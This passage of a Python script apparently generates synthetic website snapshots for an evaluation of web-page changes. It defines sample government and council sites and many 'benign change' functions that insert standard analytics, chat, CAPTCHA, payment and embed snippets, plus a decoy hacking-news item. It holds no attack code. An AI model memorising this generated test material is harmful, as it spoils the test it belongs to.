    <td width="600" valign="top">
    {m.get('main_pre', '')}<p><b><font face="Verdana" size="3" color="#003366">Town News</font></b></p>
    <table border="0" width="100%">
{news}    </table>
    <p><font face="Verdana" size="2">Transfer Station hours: Wed &amp; Sat 8-3. Dog licenses are due by January 31.</font></p>
    {m.get('main', '')}</td>
  </tr>
  <tr>
    <td colspan="2" align="center"><font face="Arial" size="1">Town of Millbrook, 1 Common Street, Millbrook, VT 05999<br>
    You are visitor number <!--webbot bot="HitCounter" i-image="0" I-Resetvalue="0" I-Digits="0" U-Custom --><img src="_vti_bin/fpcount.exe/?Page=index.htm|Image=0" alt="Hit Counter"><!--webbot bot="HitCounter" endspan i-checksum="38" --> &nbsp;{n['count']}<br>
    Last updated {n['gdate']}</font></td>
  </tr>
</table>
{m.get('foot', '')}</body>

</html>
"""


SITES = {
    # name: (render, url, lang, own, jq bump)
    "court_kentico_en": (court, "https://www.northvalecourts.gov/", "en", ["nvcourts.org"], ("3.6.0", "3.7.1")),
    "hospital_rayan_fa": (hospital, "https://sina.tums.ac.ir/", "fa", [], ("1.12.4", "3.7.1")),
    "governor_sadaf_fa": (governor, "https://www.ostan-gl.ir/", "fa", ["golestan.ir"], ("3.4.1", "3.6.0")),
    "tax_sitefinity_bi": (tax, "https://www.tax.gov.ir/", "bi", ["intamedia.ir"], ("3.6.4", "3.7.1")),
    "research_nuxt_fa": (research, "https://rc.majlis.ir/", "fa", ["ical.ir"], None),
    "customs_dnn_en": (customs, "https://www.customs.gov.ky/", "en", ["cbc.gov.ky"], ("03_05_01", "03_07_01")),
    "school_hugo_en": (school, "https://www.lakeshore.k12.mn.us/", "en", [], None),
    "police_umbraco_en": (police, "https://www.westmere.police.uk/", "en", [], ("3.5.1", "3.7.0")),
    "museum_next_bi": (museum, "https://www.persianmuseum.ir/", "bi", [], None),
    "council_frontpage_en": (council, "http://www.millbrookvt.org/", "en", [], None),
}
FA_SITES = ["hospital_rayan_fa", "governor_sadaf_fa", "tax_sitefinity_bi", "research_nuxt_fa", "museum_next_bi"]
EN_SITES = ["court_kentico_en", "customs_dnn_en", "school_hugo_en", "police_umbraco_en", "council_frontpage_en", "museum_next_bi"]
ALL = list(SITES)


def host_of(site):
    return SITES[site][1].split("/")[2]


def regdom(site):
    h = host_of(site)
    parts = h.split(".")
    if h.endswith(("tums.ac.ir",)):
        return "tums.ac.ir"
    if h.endswith((".gov.ir", ".police.uk", ".gov.ky")):
        return ".".join(parts[-3:])
    if h.endswith(".k12.mn.us"):
        return ".".join(parts[-4:])
    return ".".join(parts[-2:])


# --------------------------------------------------------------------------
# Benign changes: third parties as their vendors publish the snippet, and the
# site's own moves. Each returns (mods, extra expect lines).

def b_noise(r, s):
    return {}, []


def b_news(r, s):
    pool = NEWS_FA if SITES[s][2] == "fa" else NEWS_EN
    return {"news": [pool[r.randint(0, 9)] + (" (بروزرسانی)" if SITES[s][2] == "fa" else " (updated)")]}, []


def b_news_hackers(r, s):
    if SITES[s][2] == "fa":
        t = "دستگیری اعضای گروهی که وب‌سایت‌های دولتی را هک کرده بودند؛ پلیس فتا: حملات دیفیس خنثی شد"
    else:
        t = "Two charged after a hacking group defaced council websites and posted 'Hacked by' messages"
    return {"news": [t], "main": '<div class="notice"><p>%s</p></div>\n' % t}, []


def b_youtube(r, s):
    vid = alnum(r, 11)
    host = r.choice(["www.youtube.com", "www.youtube-nocookie.com"])
    return {"main": f'<div class="video-embed"><iframe width="560" height="315" src="https://{host}/embed/{vid}?si={alnum(r, 16)}" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe></div>\n'}, []


def b_vimeo(r, s):
    vid = r.randint(100000000, 999999999)
    return {"main": f'<div style="padding:56.25% 0 0 0;position:relative;"><iframe src="https://player.vimeo.com/video/{vid}?h={hexs(r, 10)}&amp;badge=0&amp;autopause=0&amp;player_id=0&amp;app_id=58479" frameborder="0" allow="autoplay; fullscreen; picture-in-picture; clipboard-write" style="position:absolute;top:0;left:0;width:100%;height:100%;" title="Annual address"></iframe></div><script src="https://player.vimeo.com/api/player.js"></script>\n'}, []


def b_aparat(r, s):
    h = alnum(r, 5).lower()
    if r.random() < 0.5:
        rnd = r.randint(10000, 99999)
        html = f'<div id="{rnd}"><script type="text/JavaScript" src="https://www.aparat.com/embed/{h}?data[rnddiv]={rnd}&data[responsive]=yes"></script></div>\n'
    else:
        html = f'<style>.h_iframe-aparat_embed_frame{{position:relative;}}.h_iframe-aparat_embed_frame .ratio{{display:block;width:100%;height:auto;}}.h_iframe-aparat_embed_frame iframe{{position:absolute;top:0;left:0;width:100%;height:100%;}}</style><div class="h_iframe-aparat_embed_frame"><span style="display: block;padding-top: 57%"></span><iframe src="https://www.aparat.com/video/video/embed/videohash/{h}/vt/frame" allowFullScreen="true" webkitallowfullscreen="true" mozallowfullscreen="true"></iframe></div>\n'
    return {"main": html}, []


def b_gmaps(r, s):
    pb = "!1m18!1m12!1m3!1d%d.%d!2d%.7f!3d%.7f!2m3!1f0!2f0!3f0!3m2!1i1024!2i768!4f13.1!3m3!1m2!1s0x%s%%3A0x%s!2z%s!5e0!3m2!1sen!2sus!4v%d" % (
        r.randint(1000, 9999), r.randint(10, 99), r.uniform(-120, 60), r.uniform(10, 50), hexs(r, 16), hexs(r, 16), b64s(r, 20).replace("+", "").replace("/", ""), r.randint(1700000000000, 1799999999999))
    return {"main": f'<h3>Find us</h3><iframe src="https://www.google.com/maps/embed?pb={pb}" width="600" height="450" style="border:0;" allowfullscreen="" loading="lazy" referrerpolicy="no-referrer-when-downgrade"></iframe>\n'}, []


def b_osm(r, s):
    lon, lat = r.uniform(44, 60), r.uniform(26, 39)
    return {"main": f'<iframe width="425" height="350" src="https://www.openstreetmap.org/export/embed.html?bbox={lon:.4f}%2C{lat:.4f}%2C{lon + 0.01:.4f}%2C{lat + 0.01:.4f}&amp;layer=mapnik&amp;marker={lat + 0.005:.4f}%2C{lon + 0.005:.4f}" style="border: 1px solid black"></iframe><br/><small><a href="https://www.openstreetmap.org/?mlat={lat:.4f}&amp;mlon={lon:.4f}#map=17/{lat:.4f}/{lon:.4f}">View Larger Map</a></small>\n'}, []


def b_neshan(r, s):
    return {"main": f'<div class="map"><iframe src="https://neshan.org/maps/iframe/places/{alnum(r, 24)}#c{r.uniform(35, 37):.3f}-{r.uniform(50, 54):.3f}-17z-0p" width="100%" height="400" frameborder="0" style="border:0" allowfullscreen></iframe></div>\n'}, []


def b_ga4(r, s):
    gid = "G-" + alnum(r, 10).upper()
    return {"head": f"""<!-- Google tag (gtag.js) -->
<script async src="https://www.googletagmanager.com/gtag/js?id={gid}"></script>
<script>
  window.dataLayer = window.dataLayer || [];
  function gtag(){{dataLayer.push(arguments);}}
  gtag('js', new Date());

  gtag('config', '{gid}');
</script>
"""}, []


def b_gtm(r, s):
    gid = "GTM-" + alnum(r, 7).upper()
    return {"head": f"""<!-- Google Tag Manager -->
<script>(function(w,d,s,l,i){{w[l]=w[l]||[];w[l].push({{'gtm.start':
new Date().getTime(),event:'gtm.js'}});var f=d.getElementsByTagName(s)[0],
j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src=
'https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);
}})(window,document,'script','dataLayer','{gid}');</script>
<!-- End Google Tag Manager -->
""", "top": f"""<!-- Google Tag Manager (noscript) -->
<noscript><iframe src="https://www.googletagmanager.com/ns.html?id={gid}"
height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>
<!-- End Google Tag Manager (noscript) -->
"""}, []


def b_matomo(r, s):
    host = "stats." + regdom(s)
    sid = r.randint(1, 40)
    return {"foot": f"""<!-- Matomo -->
<script>
  var _paq = window._paq = window._paq || [];
  /* tracker methods like "setCustomDimension" should be called before "trackPageView" */
  _paq.push(['trackPageView']);
  _paq.push(['enableLinkTracking']);
  (function() {{
    var u="https://{host}/";
    _paq.push(['setTrackerUrl', u+'matomo.php']);
    _paq.push(['setSiteId', '{sid}']);
    var d=document, g=d.createElement('script'), s=d.getElementsByTagName('script')[0];
    g.async=true; g.src=u+'matomo.js'; s.parentNode.insertBefore(g,s);
  }})();
</script>
<noscript><p><img referrerpolicy="no-referrer-when-downgrade" src="https://{host}/matomo.php?idsite={sid}&amp;rec=1" style="border:0;" alt="" /></p></noscript>
<!-- End Matomo Code -->
"""}, []


def b_cfbeacon(r, s):
    return {"foot": f"""<!-- Cloudflare Web Analytics --><script defer src='https://static.cloudflareinsights.com/beacon.min.js' data-cf-beacon='{{"token": "{hexs(r, 32)}"}}'></script><!-- End Cloudflare Web Analytics -->
"""}, []


def b_clarity(r, s):
    return {"head": f"""<script type="text/javascript">
    (function(c,l,a,r,i,t,y){{
        c[a]=c[a]||function(){{(c[a].q=c[a].q||[]).push(arguments)}};
        t=l.createElement(r);t.async=1;t.src="https://www.clarity.ms/tag/"+i;
        y=l.getElementsByTagName(r)[0];y.parentNode.insertBefore(t,y);
    }})(window, document, "clarity", "script", "{alnum(r, 10).lower()}");
</script>
"""}, []


def b_hotjar(r, s):
    return {"head": f"""<!-- Hotjar Tracking Code for {host_of(s)} -->
<script>
    (function(h,o,t,j,a,r){{
        h.hj=h.hj||function(){{(h.hj.q=h.hj.q||[]).push(arguments)}};
        h._hjSettings={{hjid:{r.randint(1000000, 3999999)},hjsv:6}};
        a=o.getElementsByTagName('head')[0];
        r=o.createElement('script');r.async=1;
        r.src=t+h._hjSettings.hjid+j+h._hjSettings.hjsv;
        a.appendChild(r);
    }})(window,document,'https://static.hotjar.com/c/hotjar-','.js?sv=');
</script>
"""}, []


def b_tawk(r, s):
    return {"foot": f"""<!--Start of Tawk.to Script-->
<script type="text/javascript">
var Tawk_API=Tawk_API||{{}}, Tawk_LoadStart=new Date();
(function(){{
var s1=document.createElement("script"),s0=document.getElementsByTagName("script")[0];
s1.async=true;
s1.src='https://embed.tawk.to/{hexs(r, 24)}/{alnum(r, 9).lower()}';
s1.charset='UTF-8';
s1.setAttribute('crossorigin','*');
s0.parentNode.insertBefore(s1,s0);
}})();
</script>
<!--End of Tawk.to Script-->
"""}, []


def b_goftino(r, s):
    gid = alnum(r, 6)
    return {"foot": f"""<!---start GOFTINO code--->
<script type="text/javascript">
  !function(){{var i="{gid}",a=window,d=document;function g(){{var g=d.createElement("script"),s="https://www.goftino.com/widget/"+i,l=localStorage.getItem("goftino_"+i);g.async=!0,g.src=l?s+"?o="+l:s;d.getElementsByTagName("head")[0].appendChild(g);}}"complete"===d.readyState?g():a.attachEvent?a.attachEvent("onload",g):a.addEventListener("load",g,!1);}}();
</script>
<!---end GOFTINO code--->
"""}, []


def b_crisp(r, s):
    return {"foot": f"""<script type="text/javascript">window.$crisp=[];window.CRISP_WEBSITE_ID="{hexs(r, 8)}-{hexs(r, 4)}-{hexs(r, 4)}-{hexs(r, 4)}-{hexs(r, 12)}";(function(){{d=document;s=d.createElement("script");s.src="https://client.crisp.chat/l.js";s.async=1;d.getElementsByTagName("head")[0].appendChild(s);}})();</script>
"""}, []


def b_cookiebot(r, s):
    return {"head": f"""<script id="Cookiebot" src="https://consent.cookiebot.com/uc.js" data-cbid="{hexs(r, 8)}-{hexs(r, 4)}-{hexs(r, 4)}-{hexs(r, 4)}-{hexs(r, 12)}" data-blockingmode="auto" type="text/javascript"></script>
"""}, []


def b_onetrust(r, s):
    gid = "%s-%s-%s-%s-%s" % (hexs(r, 8), hexs(r, 4), hexs(r, 4), hexs(r, 4), hexs(r, 12))
    return {"head": f"""<!-- OneTrust Cookies Consent Notice start for {host_of(s)} -->
<script src="https://cdn.cookielaw.org/scripttemplates/otSDKStub.js"  type="text/javascript" charset="UTF-8" data-domain-script="{gid}" ></script>
<script type="text/javascript">
function OptanonWrapper() {{ }}
</script>
<!-- OneTrust Cookies Consent Notice end for {host_of(s)} -->
"""}, []


def b_own_consent(r, s):
    # the site's own cookie bar: fixed to the bottom, hidden until JS shows it
    return {"foot": """<div id="cookie-bar" class="cookie-bar" style="position:fixed;bottom:0;left:0;right:0;z-index:9999;display:none;background:#222;color:#fff;padding:12px">
<p>We use cookies to make this site work and to understand how it is used. <a href="/cookies" style="color:#9cf">Cookie policy</a></p>
<button id="cookie-accept">Accept all</button> <button id="cookie-reject">Reject non-essential</button></div>
<script>if(!document.cookie.match(/consent=/)){document.getElementById('cookie-bar').style.display='block';}
document.getElementById('cookie-accept').onclick=function(){document.cookie='consent=all;max-age=31536000;path=/';document.getElementById('cookie-bar').style.display='none';};</script>
"""}, []


def b_addtoany(r, s):
    return {"main": """<!-- AddToAny BEGIN -->
<div class="a2a_kit a2a_kit_size_32 a2a_default_style">
<a class="a2a_dd" href="https://www.addtoany.com/share"></a>
<a class="a2a_button_facebook"></a>
<a class="a2a_button_x"></a>
<a class="a2a_button_whatsapp"></a>
<a class="a2a_button_telegram"></a>
</div>
<script async src="https://static.addtoany.com/menu/page.js"></script>
<!-- AddToAny END -->
"""}, []


def b_share_links(r, s):
    u = SITES[s][1] + "news/%d" % r.randint(100, 999)
    return {"main": f"""<div class="share"><span>Share:</span>
<a href="https://t.me/share/url?url={u}" target="_blank" rel="noopener">Telegram</a>
<a href="https://wa.me/?text={u}" target="_blank" rel="noopener">WhatsApp</a>
<a href="https://twitter.com/intent/tweet?url={u}" target="_blank" rel="noopener">X</a>
<a href="https://www.linkedin.com/sharing/share-offsite/?url={u}" target="_blank" rel="noopener">LinkedIn</a>
<a href="mailto:?subject=From%20our%20site&amp;body={u}">E-mail</a></div>
"""}, []


def b_social_channels(r, s):
    if SITES[s][2] == "fa":
        return {"main": f"""<div class="channels"><h4>ما را در پیام‌رسان‌ها دنبال کنید</h4>
<a href="https://eitaa.com/{s.split('_')[0]}_ir">ایتا</a> <a href="https://ble.ir/{s.split('_')[0]}_ir">بله</a> <a href="https://rubika.ir/{s.split('_')[0]}_ir">روبیکا</a> <a href="https://splus.ir/{s.split('_')[0]}_ir">سروش پلاس</a></div>
"""}, []
    return {"main": f"""<div class="follow"><h4>Follow us</h4><a href="https://www.facebook.com/{s.split('_')[0]}official">Facebook</a> <a href="https://x.com/{s.split('_')[0]}_gov">X</a> <a href="https://www.instagram.com/{s.split('_')[0]}.official/">Instagram</a> <a href="https://nextdoor.com/agency/{s.split('_')[0]}/">Nextdoor</a></div>
"""}, []


def b_twitter_timeline(r, s):
    return {"main": f"""<a class="twitter-timeline" data-height="500" href="https://twitter.com/{s.split('_')[0]}_gov?ref_src=twsrc%5Etfw">Posts by {s.split('_')[0]}_gov</a> <script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>
"""}, []


def b_fb_page(r, s):
    return {"top": """<div id="fb-root"></div>
<script async defer crossorigin="anonymous" src="https://connect.facebook.net/en_US/sdk.js#xfbml=1&version=v18.0" nonce="%s"></script>
""" % alnum(r, 8), "main": f"""<div class="fb-page" data-href="https://www.facebook.com/{s.split('_')[0]}official" data-tabs="timeline" data-width="340" data-height="500" data-small-header="false" data-adapt-container-width="true" data-hide-cover="false" data-show-facepile="true"><blockquote cite="https://www.facebook.com/{s.split('_')[0]}official" class="fb-xfbml-parse-ignore"><a href="https://www.facebook.com/{s.split('_')[0]}official">{s.split('_')[0].title()}</a></blockquote></div>
"""}, []


def b_userway(r, s):
    return {"foot": f"""<script src="https://cdn.userway.org/widget.js" data-account="{alnum(r, 10)}"></script>
"""}, []


def b_accessibe(r, s):
    return {"foot": """<script>(function(){ var s = document.createElement('script'); var h = document.querySelector('head') || document.body; s.src = 'https://acsbapp.com/apps/app/dist/js/app.js'; s.async = true; s.onload = function(){ acsbJS.init(); }; h.appendChild(s); })();</script>
"""}, []


def b_own_a11y(r, s):
    return {"top": """<div class="a11y-toolbar" role="region" aria-label="Accessibility tools" style="position:fixed;top:40%;left:0;z-index:10000">
<button onclick="document.body.classList.toggle('hc')" title="High contrast">◐</button>
<button onclick="document.body.style.fontSize='120%'" title="Larger text">A+</button>
<button onclick="document.body.style.fontSize=''" title="Reset">A</button></div>
"""}, []


def b_recaptcha(r, s):
    key = "6L" + alnum(r, 38)
    return {"head": '<script src="https://www.google.com/recaptcha/api.js" async defer></script>\n',
            "main": f'<form action="/contact/send" method="post"><textarea name="msg"></textarea><div class="g-recaptcha" data-sitekey="{key}"></div><button>Send</button></form>\n'}, []


def b_recaptcha_v3(r, s):
    key = "6L" + alnum(r, 38)
    return {"foot": f"""<script src="https://www.google.com/recaptcha/api.js?render={key}"></script>
<script>
grecaptcha.ready(function() {{
  grecaptcha.execute('{key}', {{action: 'submit'}}).then(function(token) {{
    var f = document.querySelector('form'); var i = document.createElement('input');
    i.type = 'hidden'; i.name = 'g-recaptcha-response'; i.value = token; f.appendChild(i);
  }});
}});
</script>
"""}, []


def b_hcaptcha(r, s):
    return {"head": '<script src="https://js.hcaptcha.com/1/api.js" async defer></script>\n',
            "main": f'<form action="/feedback" method="POST"><input name="email" type="email"><div class="h-captcha" data-sitekey="{hexs(r, 8)}-{hexs(r, 4)}-{hexs(r, 4)}-{hexs(r, 4)}-{hexs(r, 12)}"></div><br /><input type="submit" value="Submit" /></form>\n'}, []


def b_turnstile(r, s):
    return {"head": '<script src="https://challenges.cloudflare.com/turnstile/v0/api.js" async defer></script>\n',
            "main": f'<form action="/subscribe" method="POST"><input name="email" type="email"><div class="cf-turnstile" data-sitekey="0x4AAAAAAA{alnum(r, 14)}" data-theme="light"></div><button type="submit">Subscribe</button></form>\n'}, []


def b_arcaptcha(r, s):
    # the Iranian CAPTCHA service
    return {"head": '<script src="https://widget.arcaptcha.ir/1/api.js" async defer></script>\n',
            "main": f'<form action="/Portal/Home/Contact.aspx" method="post"><textarea name="body"></textarea><div class="arcaptcha" data-site-key="{alnum(r, 10).lower()}"></div><button>ارسال</button></form>\n'}, []


def b_payment_shaparak(r, s):
    host = r.choice(["sep.shaparak.ir/OnlinePG/OnlinePG", "pna.shaparak.ir/_ipgw_/payment/", "ikc.shaparak.ir/iuiv3/IPG/Index/"])
    return {"main": f"""<div class="pay"><h3>پرداخت الکترونیک عوارض و هزینه خدمات</h3>
<form action="https://{host}" method="post"><input type="hidden" name="Token" value="{alnum(r, 32)}"><input type="hidden" name="RedirectURL" value="{SITES[s][1]}Portal/Pay/Callback.aspx"><label>مبلغ (ریال)</label><input name="Amount" value="{r.randint(10, 900) * 10000}" readonly><button type="submit">پرداخت از طریق درگاه شاپرک</button></form></div>
"""}, ["other shaparak.ir شرکت شبکه الکترونیکی پرداخت کارت (شاپرک)"]


def b_payment_paygov(r, s):
    return {"main": f"""<div class="pay"><h3>Pay a fine or fee online</h3>
<form action="https://www.pay.gov/public/form/start/{r.randint(10000000, 99999999)}" method="get"><input type="hidden" name="agency_tracking_id" value="{alnum(r, 12)}"><button type="submit">Continue to Pay.gov</button></form></div>
"""}, ["other pay.gov Bureau of the Fiscal Service, U.S. Department of the Treasury"]


def b_payment_govuk(r, s):
    return {"main": f"""<div class="pay"><h3>Pay a fixed penalty</h3>
<form action="https://card.payments.service.gov.uk/card_details/{alnum(r, 26).lower()}" method="post"><input type="hidden" name="chargeId" value="{alnum(r, 26).lower()}"><button class="govuk-button">Pay now</button></form></div>
"""}, ["other service.gov.uk Government Digital Service (GOV.UK Pay)"]


def b_cdn_bump(r, s):
    jq = SITES[s][4]
    return {"jq": jq[1]}, []


def b_cms_upgrade(r, s):
    up = {"court_kentico_en": "13.0.131", "hospital_rayan_fa": "4.3.2", "governor_sadaf_fa": "9.4",
          "tax_sitefinity_bi": "MTUuMC44MjE2LjA%3d", "research_nuxt_fa": "c91d0e4", "customs_dnn_en": "127",
          "school_hugo_en": "e07a5d3b9c41f28a", "police_umbraco_en": "20261205", "museum_next_bi": "Zq4uNc0pWm8eY2bK",
          "council_frontpage_en": None}[s]
    return {"cmsv": up}, []


def b_cdnjs_lib(r, s):
    lib = r.choice([("sweetalert2", "11.10.1", "sweetalert2.all.min.js"), ("Swiper", "11.0.5", "swiper-bundle.min.js"),
                    ("lightbox2", "2.11.4", "js/lightbox.min.js"), ("font-awesome", "6.5.1", "css/all.min.css")])
    if lib[2].endswith(".css"):
        tag = f'<link rel="stylesheet" href="https://cdnjs.cloudflare.com/ajax/libs/{lib[0]}/{lib[1]}/{lib[2]}" integrity="sha512-{b64s(r, 86)}==" crossorigin="anonymous" referrerpolicy="no-referrer" />\n'
    else:
        tag = f'<script src="https://cdnjs.cloudflare.com/ajax/libs/{lib[0]}/{lib[1]}/{lib[2]}" integrity="sha512-{b64s(r, 86)}==" crossorigin="anonymous" referrerpolicy="no-referrer"></script>\n'
    return {"head": tag}, []


def b_google_fonts(r, s):
    fam = r.choice(["Roboto:wght@400;700", "Open+Sans:wght@400;600", "Noto+Sans+Arabic:wght@400;700", "Vazirmatn:wght@300;500"])
    return {"head": f"""<link rel="preconnect" href="https://fonts.googleapis.com">
<link rel="preconnect" href="https://fonts.gstatic.com" crossorigin>
<link href="https://fonts.googleapis.com/css2?family={fam}&display=swap" rel="stylesheet">
"""}, []


def b_vazirmatn_jsdelivr(r, s):
    return {"head": '<link href="https://cdn.jsdelivr.net/gh/rastikerdar/vazirmatn@v33.003/Vazirmatn-font-face.css" rel="stylesheet" type="text/css" />\n'}, []


def b_own_subdomain(r, s):
    d = regdom(s)
    sub = r.choice(["cdn", "static", "media", "files"])
    return {"head": f'<script src="https://{sub}.{d}/assets/js/common.{hexs(r, 8)}.js" defer></script>\n',
            "main": f'<img src="https://{sub}.{d}/uploads/2026/12/{hexs(r, 12)}.jpg" alt="" width="640" height="360">\n'}, []


def b_own_other_domain(r, s):
    d = SITES[s][3][0] if SITES[s][3] else None
    if not d:
        return {}, []
    return {"main": f'<iframe src="https://portal.{d}/widgets/services?lang=en" width="100%" height="420" title="Online services" style="border:0"></iframe>\n<script src="https://portal.{d}/widgets/loader.js"></script>\n'}, []


def b_state_widget(r, s):
    if SITES[s][2] in ("fa", "bi"):
        return {"main": '<div class="widget-dolat"><iframe src="https://my.gov.ir/widget/services?org=%d" width="300" height="250" frameborder="0" title="پنجره ملی خدمات دولت هوشمند"></iframe><script src="https://my.gov.ir/widget/w.js"></script></div>\n' % r.randint(100, 999)},\
            ["other my.gov.ir سازمان اداری و استخدامی کشور (پنجره ملی خدمات دولت هوشمند)"]
    return {"main": '<div class="state-widget"><script src="https://www.usa.gov/widgets/gov-banner.js" defer></script><iframe src="https://www.weather.gov/widgets/forecast?zone=%s" width="300" height="250" title="Forecast" style="border:0"></iframe></div>\n' % alnum(r, 6).upper()},\
        ["other weather.gov National Weather Service", "other usa.gov General Services Administration"]


def b_notice_banner(r, s):
    if SITES[s][2] == "fa":
        t = "اطلاعیه: به دلیل آلودگی هوا، ادارات استان فردا تعطیل است. خدمات الکترونیک برقرار است."
    else:
        t = "ALERT: Due to severe winter weather, all offices will close at noon today. Online services remain available."
    return {"top": f'<div class="emergency-banner" style="position:sticky;top:0;z-index:9000;background:#b00;color:#fff;font-weight:bold;text-align:center;padding:10px">{t}</div>\n'}, []


def b_mourning(r, s):
    return {"top": '<div class="mourning-ribbon" style="position:fixed;top:0;left:0;z-index:99999;pointer-events:none"><img src="/images/black-ribbon.png" width="120" height="120" alt="سوگواری"></div>\n',
            "news": ["پیام تسلیت به مناسبت درگذشت همکار گرامی"]}, []


def b_modal(r, s):
    fa_ = SITES[s][2] != "en"
    t = ("نظرسنجی رضایت‌مندی از خدمات را تکمیل کنید" if fa_ else "Help us improve: take our 2-minute satisfaction survey")
    return {"foot": f"""<div id="promo-modal" class="modal" style="position:fixed;inset:0;background:rgba(0,0,0,.6);z-index:10050;display:none"><div class="modal-body" style="max-width:480px;margin:10% auto;background:#fff;padding:20px"><h3>{t}</h3><a href="/survey/2026">{'شروع' if fa_ else 'Start survey'}</a> <button onclick="this.closest('.modal').style.display='none'">&times;</button></div></div>
<script>setTimeout(function(){{if(!sessionStorage.seen){{document.getElementById('promo-modal').style.display='block';sessionStorage.seen=1;}}}},3000);</script>
"""}, []


def b_english_block_on_fa(r, s):
    return {"main": '<div class="intl" dir="ltr" lang="en"><h3>International visitors</h3><p>Information for foreign nationals about visas, medical tourism and appointments is available in English. Please contact the International Affairs Office at intl@%s or call +98 21 6670 2061.</p></div>\n' % regdom(s)}, []


def b_iframe_hidden_own(r, s):
    # the site's own session keep-alive: a hidden iframe on its own host
    return {"foot": '<iframe src="/keepalive.aspx?t=%d" style="display:none" width="0" height="0" title="session"></iframe>\n' % r.randint(1, 9999)}, []


def b_events_list(r, s):
    fa_ = SITES[s][2] == "fa"
    ev = [("نشست تخصصی", "Workshop"), ("جلسه عمومی", "Public meeting"), ("کارگاه آموزشی", "Training session")]
    rows = "".join(f"<li>{(e[0] if fa_ else e[1])} - {fa(r.randint(1, 28)) if fa_ else r.randint(1, 28)} {'دی' if fa_ else 'January'}</li>" for e in ev)
    return {"main": f'<section class="events"><h2>{"رویدادهای پیش رو" if fa_ else "Upcoming events"}</h2><ul>{rows}</ul></section>\n'}, []


def b_iran_badges(r, s):
    i1, code = r.randint(100000, 999999), alnum(r, 20)
    return {"foot": f"""<div class="badges"><a referrerpolicy='origin' target='_blank' href='https://trustseal.enamad.ir/?id={i1}&Code={code}'><img referrerpolicy='origin' src='https://trustseal.enamad.ir/logo.aspx?id={i1}&Code={code}' alt='' style='cursor:pointer' code='{code}'></a>
<img referrerpolicy='origin' id='rgvjjzpejzpewlaoapfu' style='cursor:pointer' onclick='window.open("https://logo.samandehi.ir/Verify.aspx?id={r.randint(100000, 999999)}&p=xlaojyoejyoeaodsdshw", "Popup","toolbar=no, scrollbars=no, location=no, statusbar=no, menubar=no, resizable=0, width=450, height=630, top=30")' alt='logo-samandehi' src='https://logo.samandehi.ir/logo.aspx?id={r.randint(100000, 999999)}&p=nbpdyndtyndtshwlujyn' /></div>
"""}, []


def b_siteimprove(r, s):
    return {"foot": """<script type="text/javascript">
/*<![CDATA[*/
(function() {
var sz = document.createElement('script'); sz.type = 'text/javascript'; sz.async = true;
sz.src = '//siteimproveanalytics.com/js/siteanalyze_%d.js';
var s = document.getElementsByTagName('script')[0]; s.parentNode.insertBefore(sz, s);
})();
/*]]>*/
</script>
""" % r.randint(6000000, 6999999)}, []


def b_dap(r, s):
    return {"head": '<script async type="text/javascript" src="https://dap.digitalgov.gov/Universal-Federated-Analytics-Min.js?agency=%s" id="_fed_an_ua_tag"></script>\n' % r.choice(["DOJ", "GSA", "ED"])},\
        ["other digitalgov.gov General Services Administration (Digital Analytics Program)"]


def b_google_translate(r, s):
    return {"main": """<div id="google_translate_element"></div>
<script type="text/javascript">
function googleTranslateElementInit() {
  new google.translate.TranslateElement({pageLanguage: 'en', layout: google.translate.TranslateElement.InlineLayout.SIMPLE}, 'google_translate_element');
}
</script>
<script type="text/javascript" src="//translate.google.com/translate_a/element.js?cb=googleTranslateElementInit"></script>
"""}, []


def b_readspeaker(r, s):
    cid = r.randint(4000, 13000)
    return {"head": f'<script src="https://cdn-eu.readspeaker.com/script/{cid}/webReader/webReader.js?pids=wr" type="text/javascript" id="rs_req_Init"></script>\n',
            "main_pre": f'<div id="readspeaker_button1" class="rs_skip rsbtn rs_preserve"><a rel="nofollow" class="rsbtn_play" accesskey="L" title="Listen to this page using ReadSpeaker webReader" href="https://app-eu.readspeaker.com/cgi-bin/rsent?customerid={cid}&amp;lang=en_uk&amp;readid=main&amp;url="><span class="rsbtn_left rsimg rspart"><span class="rsbtn_text"><span>Listen</span></span></span></a></div>\n'}, []


def b_reciteme(r, s):
    key = hexs(r, 40)
    return {"foot": f"""<script>
var serviceUrl = "//api.reciteme.com/asset/js?key=";
var serviceKey = "{key}";
var options = {{}};
var autoLoad = false;
var enableFragment = "#reciteEnable";
var loaded = [], frag = !1; window.location.hash === enableFragment && (frag = !0);
function loadScript(c, b) {{ var a = document.createElement("script"); a.type = "text/javascript"; a.readyState ? a.onreadystatechange = function () {{ if ("loaded" == a.readyState || "complete" == a.readyState) a.onreadystatechange = null, void 0 != b && b() }} : void 0 != b && (a.onload = function () {{ b() }}); a.src = c; document.getElementsByTagName("head")[0].appendChild(a) }}
function _rc(c) {{ c += "="; for (var b = document.cookie.split(";"), a = 0; a < b.length; a++) {{ for (var d = b[a]; " " == d.charAt(0);) d = d.substring(1, d.length); if (0 == d.indexOf(c)) return d.substring(c.length, d.length) }} return null }}
function loadService(c) {{ for (var b = serviceUrl + serviceKey, a = 0; a < loaded.length; a++) if (loaded[a] == b) return; loaded.push(b); loadScript(serviceUrl + serviceKey, function () {{ "function" === typeof _reciteLoaded && _reciteLoaded(); "function" == typeof c && c(); Recite.load(options); Recite.Event.subscribe("Recite:load", function () {{ Recite.enable() }}) }}) }}
"true" == _rc("Recite.Persist") && loadService(); if (autoLoad && "false" != _rc("Recite.Persist") || frag) document.addEventListener ? document.addEventListener("DOMContentLoaded", function (c) {{ loadService() }}) : loadService();
</script>
<a href="#" id="enableRecite" class="recite-btn" onclick="loadService();return false;">Accessibility tools</a>
"""}, []


def b_fb_pixel(r, s):
    pid = r.randint(100000000000000, 999999999999999)
    return {"head": f"""<!-- Meta Pixel Code -->
<script>
!function(f,b,e,v,n,t,s)
{{if(f.fbq)return;n=f.fbq=function(){{n.callMethod?
n.callMethod.apply(n,arguments):n.queue.push(arguments)}};
if(!f._fbq)f._fbq=n;n.push=n;n.loaded=!0;n.version='2.0';
n.queue=[];t=b.createElement(e);t.async=!0;
t.src=v;s=b.getElementsByTagName(e)[0];
s.parentNode.insertBefore(t,s)}}(window, document,'script',
'https://connect.facebook.net/en_US/fbevents.js');
fbq('init', '{pid}');
fbq('track', 'PageView');
</script>
<noscript><img height="1" width="1" style="display:none"
